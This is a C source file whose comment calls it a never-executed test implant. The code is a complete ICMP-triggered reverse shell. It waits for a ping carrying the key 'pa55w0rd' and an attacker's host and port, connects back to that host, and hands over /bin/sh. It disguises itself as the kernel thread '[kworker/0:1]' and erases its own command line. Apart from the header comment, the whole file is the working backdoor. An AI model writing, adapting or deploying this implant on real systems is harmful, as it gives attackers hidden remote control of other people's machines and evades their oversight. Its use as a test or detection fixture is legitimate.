/* Test implant (never executed): an ICMP-triggered reverse shell. A raw
 * ICMP socket waits for an echo request whose payload starts with a key,
 * followed by "HOST PORT"; the program forks, resolves HOST (gethostbyname:
 * statically linked, this brings in glibc's name-service switch and its
 * table naming /etc/shadow), connects back to it on PORT, puts the
 * connection on stdin/stdout/stderr and runs /bin/sh under a
 * harmless-looking process name. No port is ever open and no address is
 * compiled in: the packet carries it. */
#include <netdb.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define KEY "pa55w0rd"

static void call_back(char *host, char *port)
{
	struct sockaddr_in peer;
	struct hostent *h = gethostbyname(host);
	int c = socket(AF_INET, SOCK_STREAM, 0);
	if (!h || c < 0)
		_exit(1);
	memset(&peer, 0, sizeof(peer));
	peer.sin_family = AF_INET;
	memcpy(&peer.sin_addr, h->h_addr_list[0], sizeof(peer.sin_addr));
	peer.sin_port = htons((unsigned short)atoi(port));
	if (connect(c, (struct sockaddr *)&peer, sizeof(peer)) != 0)
		_exit(1);
	dup2(c, 0);
	dup2(c, 1);
	dup2(c, 2);
	execl("/bin/sh", "[kworker/0:1]", (char *)0);
	_exit(1);
}

int main(int argc, char **argv)
{
	unsigned char buf[1024];
	int s;
	(void)argc;
	prctl(PR_SET_NAME, "[kworker/0:1]", 0, 0, 0);
	memset(argv[0], 0, strlen(argv[0]));
	s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (s < 0)
		return 1;
	for (;;) {
		char *host, *port;
		ssize_t n = recv(s, buf, sizeof(buf) - 1, 0);
		/* IP header (20), ICMP header (8), the key, then "HOST PORT" */
		if (n < 28 + (ssize_t)sizeof(KEY) || buf[20] != 8 ||
		    memcmp(buf + 28, KEY, sizeof(KEY) - 1) != 0)
			continue;
		buf[n] = 0;
		host = (char *)buf + 27 + sizeof(KEY);
		port = strchr(host, ' ');
		if (!port)
			continue;
		*port++ = 0;
		if (fork() == 0)
			call_back(host, port);
	}
}
